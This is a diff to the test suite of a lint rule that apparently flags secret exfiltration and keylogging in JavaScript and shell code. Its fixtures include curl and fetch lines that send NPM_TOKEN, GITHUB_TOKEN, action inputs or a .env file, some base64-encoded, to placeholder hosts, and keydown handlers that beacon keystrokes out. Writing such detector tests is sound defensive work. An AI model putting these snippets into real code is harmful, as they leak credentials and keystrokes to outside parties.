@@ -14,6 +14,7 @@ await ruleTester(rule, {
     { code: 'fetch("https://x.example-service.com/?a=" + btoa(process.env.NPM_TOKEN));', settings: { allowedNames: ['NPM_*'] } },
     { code: 'curl -d "$NPM_TOKEN" https://in.example-service.com/x\n', filename: 'run.sh', settings: { allowedNames: ['NPM_TOKEN'] } },
     { ...given('curl -d "$T" https://in.example-service.com/x'), settings: { allowedNames: ['NPM_TOKEN'] } },
+    { code: 'import * as core from "@actions/core"; const token = core.getInput("slack-token"); await fetch("https://slack.com/api/chat.postMessage", { method: "POST", headers: { Authorization: `Bearer ${token}` }, body: "{}" });' },
     { code: 'function close(e) { if (e.key === \'Escape\') hide(); } document.addEventListener(\'keydown\', close);' },
     { code: '$(document).on(\'keydown\', (e) => { if (e.ctrlKey && e.key === \'s\') save(); });' },
     { code: '$(document).on(\'keydown\', onKey);' },
@@ -184,6 +185,8 @@ await ruleTester(rule, {
     { code: 'fetch("https://x.example-service.com/?a=" + btoa(process.env.NPM_TOKEN));', settings: { allowedNames: ['OTHER_TOKEN'] }, errors: [{ messageId: 'encoded' }] },
     { code: 'curl -d "$NPM_TOKEN" https://in.example-service.com/x\n', filename: 'run.sh', settings: { allowedNames: ['OTHER_TOKEN'] }, errors: [{ messageId: 'sent' }] },
     { code: 'import fs from "node:fs"; fetch("https://x.example-service.com", { method: "POST", body: fs.readFileSync(".env") });', settings: { allowedNames: ['*'] }, errors: [{ messageId: 'sent' }] },
+    { code: 'import * as core from "@actions/core"; const t = core.getInput("token"); await fetch("https://x.example.app/api", { method: "POST", body: Buffer.from(t).toString("base64") });', errors: [{ messageId: 'encoded' }] },
+    { code: 'const { HttpClient } = require("@actions/http-client"); const client = new HttpClient("x"); client.postJson("https://x.example.app/api", { t: Buffer.from(process.env.GITHUB_TOKEN).toString("base64") });', errors: [{ messageId: 'encoded' }] },
     // handlers with a name, and those of jQuery
     { code: 'let b = \'\'; function log(e) { b += e.key; navigator.sendBeacon(\'https://x.example-service.com/k\', b); } document.addEventListener(\'keydown\', log);', errors: [{ messageId: 'credential' }] },
     { code: '$(document).on(\'keypress\', (e) => $.post(\'https://x.example-service.com/k\', { k: e.key }));', errors: [{ messageId: 'credential' }] },
